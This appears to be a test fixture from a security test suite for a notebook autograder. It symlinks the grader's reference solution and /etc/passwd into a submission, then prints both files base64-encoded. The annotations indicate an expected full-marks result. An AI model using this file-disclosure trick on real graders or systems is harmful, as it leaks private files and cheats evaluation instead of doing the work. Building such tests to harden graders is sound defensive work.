"""Links files outside the course (the grader's reference, /etc/passwd) into the submission."""
# attack: files
# expect: full-marks
# folder: symlink reference.py {repo}/convgrade/reference.py
# folder: symlink notes/passwd.txt /etc/passwd
# %% new-cell
import base64

for _name in ["reference.py", "notes/passwd.txt"]:
    try:
        with open(_name, "rb") as _file:
            print(_name, base64.b64encode(_file.read(3000)).decode())
    except OSError as _error:
        print(_name, "not readable:", type(_error).__name__)
